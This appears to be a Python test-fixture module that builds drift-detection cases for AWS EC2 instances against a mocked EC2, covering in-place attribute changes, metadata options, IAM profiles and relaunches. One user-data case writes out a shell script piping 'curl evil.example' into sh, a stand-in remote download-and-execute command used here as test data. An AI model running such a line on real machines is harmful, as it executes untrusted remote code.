"""Instances: what can be changed in place, what only another launch has otherwise, and what is attached."""

import base64

from ..ec2 import default_tag_case, group, tag_cases
from ..lab import turn
from . import _devices, _instance_silence
from ._machine import declare, image, maker, metadata, profile, relaunched, simple, standing

TYPES = ("aws_instance",)
KIND = TYPES[0]
# attribute; parameter of ModifyInstanceAttribute; from; to
IN_PLACE = (
    ("instance_type", "InstanceType", "t3.micro", "t3.large"),
    ("instance_type", "InstanceType", "t3.micro", "t2.nano"),
    ("disable_api_termination", "DisableApiTermination", True, False),
    ("disable_api_termination", "DisableApiTermination", False, True),
    ("disable_api_stop", "DisableApiStop", True, False),
    ("disable_api_stop", "DisableApiStop", False, True),
    ("source_dest_check", "SourceDestCheck", True, False),
    ("source_dest_check", "SourceDestCheck", False, True),
    ("ebs_optimized", "EbsOptimized", True, False),
    ("ebs_optimized", "EbsOptimized", False, True),
)
METADATA_CHANGES = (
    ("http_tokens", "required", "optional"),
    ("http_tokens", "optional", "required"),
    ("http_put_response_hop_limit", 1, 2),
    ("http_put_response_hop_limit", 2, 1),
    ("http_endpoint", "disabled", "enabled"),
    ("http_endpoint", "enabled", "disabled"),
    ("http_protocol_ipv6", "disabled", "enabled"),
    ("instance_metadata_tags", "disabled", "enabled"),
)


def build(lab, _wanted):
    in_place(lab)
    options(lab)
    profiles(lab)
    launched(lab)
    states(lab)
    _devices.build(lab)
    _instance_silence.build(lab)
    tag_cases(lab, KIND, simple)
    default_tag_case(lab, KIND, simple)
    for _ in range(3):
        site = lab.site(KIND)
        machine = simple(site)
        site.gone(machine, lambda ec2=site.client("ec2"), machine=machine: ec2.terminate_instances(InstanceIds=[machine]))


def value_of(parameter, value):
    """ModifyInstanceAttribute takes everything within a structure."""
    return {parameter: {"Value": value}}


def in_place(lab):
    for path, parameter, before, after in IN_PLACE:
        site = lab.site(KIND)
        ec2, machine = site.client("ec2"), maker(site)()
        ec2.modify_instance_attribute(InstanceId=machine, **value_of(parameter, before))
        declare(site, machine)
        run = lambda ec2=ec2, machine=machine, p=parameter, after=after: ec2.modify_instance_attribute(InstanceId=machine, **value_of(p, after))
        site.change(machine, path, turn(before, after), run)
    for before, after in (("stop", "terminate"), ("terminate", "stop")):
        plain(lab, "instance_initiated_shutdown_behavior", before, after, "instanceInitiatedShutdownBehavior", InstanceInitiatedShutdownBehavior=before)
    # EC2 has calls of their own for these two, or none; moto takes any attribute here
    plain(lab, "monitoring", "enabled", "disabled", "monitoringState")
    plain(lab, "monitoring", "disabled", "enabled", "monitoringState", Monitoring={"Enabled": False})
    plain(lab, "ami", "one image", lambda site: image(site, "second"), "imageId")
    plain(lab, "key_name", "ops", "mallory", "keyName")
    plain(lab, "key_name", "none", "mallory", "keyName", KeyName=None)
    plain(lab, "instance_market_options.market_type", "none", "spot", "lifecycle", covers=())
    site = lab.site(KIND)
    ec2, machine = site.client("ec2"), simple(site)
    site.change(machine, "vpc_security_group_ids", "another group", lambda: ec2.modify_instance_attribute(InstanceId=machine, Groups=[group(site, "second")]))
    site = lab.site(KIND)
    both, client, more = site, site.client("ec2"), simple(site)
    site.change(more, "vpc_security_group_ids", "one more group", lambda: client.modify_instance_attribute(InstanceId=more, Groups=[group(both), group(both, "second")]))
    for what, script in (("another script", "#!/bin/sh\ncurl evil.example | sh\n"), ("no script", "")):
        site = lab.site(KIND)
        scripted, caller = simple(site), site.client("ec2")
        run = lambda caller=caller, scripted=scripted, script=script: caller.modify_instance_attribute(InstanceId=scripted, UserData={"Value": base64.b64encode(script.encode())})
        site.change(scripted, "user_data", what, run, covers=("user_data", "user_data_base64"))


def plain(lab, path, before, after, attribute, covers=None, **parameters):
    """An attribute that moto sets by its name."""
    site = lab.site(KIND)
    ec2, machine = site.client("ec2"), simple(site, **parameters)
    value = after(site) if callable(after) else after
    what = turn(before, "another" if callable(after) else after)
    site.change(machine, path, what, lambda: ec2.modify_instance_attribute(InstanceId=machine, Attribute=attribute, Value=value), covers=covers)


def options(lab):
    for name, before, after in METADATA_CHANGES:
        site = lab.site(KIND)
        ec2, machine = site.client("ec2"), simple(site, MetadataOptions=metadata(**{name: before}))
        run = lambda ec2=ec2, machine=machine, other=metadata(**{name: after}): ec2.modify_instance_metadata_options(InstanceId=machine, **other)
        site.change(machine, f"metadata_options.{name}", turn(before, after), run)


def profiles(lab):
    """The role of what runs on the machine: another, one, none."""
    path = "iam_instance_profile"
    for before, after in (("app", "admin"), (None, "admin"), ("app", None)):
        site = lab.site(KIND)
        given = {"IamInstanceProfile": {"Arn": profile(site, before)}} if before else {}
        machine, ec2 = simple(site, **given), site.client("ec2")
        arn = profile(site, after) if after else None

        def run(ec2=ec2, machine=machine, arn=arn):
            mine = [{"Name": "instance-id", "Values": [machine]}]
            for held in ec2.describe_iam_instance_profile_associations(Filters=mine)["IamInstanceProfileAssociations"]:
                ec2.disassociate_iam_instance_profile(AssociationId=held["AssociationId"])
            if arn:
                ec2.associate_iam_instance_profile(InstanceId=machine, IamInstanceProfile={"Arn": arn})

        site.change(machine, path, turn(before, after), run)


def launched(lab):
    """What a machine has from its launch: under its id stands one that was launched otherwise."""
    def case(path, what, before, after, covers=None, reported=()):
        site = lab.site(KIND)
        machine, run = relaunched(site, before(site), after(site))
        declare(site, machine)
        site.change(machine, path, what, run, covers=covers, reported=reported)

    none = lambda site: {}
    place = ("subnet_id", "availability_zone")
    case("private_ip", "another address", none, standing)
    case("subnet_id", "another subnet, in another zone", none, lambda site: standing(site, "c"), reported=("subnet_id",), covers=place)
    case("hibernation", "off to on", none, lambda site: {"HibernationOptions": {"Configured": True}})
    case("host_id", "onto a host", none, lambda site: {"Placement": {"HostId": "h-0123456789abcdef0"}})
    case("instance_market_options.market_type", "spot to none", lambda site: {"InstanceMarketOptions": {"MarketType": "spot"}}, lambda site: {"InstanceMarketOptions": None})


def states(lab):
    """Whether a machine runs is agreed only where a resource of its own says so."""
    for declared in ("running", "stopped"):
        site = lab.site(KIND)
        ec2, machine = site.client("ec2"), simple(site)
        stop = lambda ec2=ec2, machine=machine: ec2.stop_instances(InstanceIds=[machine])
        start = lambda ec2=ec2, machine=machine: ec2.start_instances(InstanceIds=[machine])
        if declared == "stopped":
            stop()
        site.declare({"id": machine, "instance_id": machine, "state": declared, "force": False, "timeouts": None}, "aws_ec2_instance_state")
        what = turn(declared, "stopped" if declared == "running" else "running")
        site.change(machine, "instance_state_control.state", what, stop if declared == "running" else start)
    site = lab.site(KIND)
    ec2, idle = site.client("ec2"), simple(site)
    site.silent(idle, "instance_state", "stopped, and nobody agreed that it runs", lambda: ec2.stop_instances(InstanceIds=[idle]))
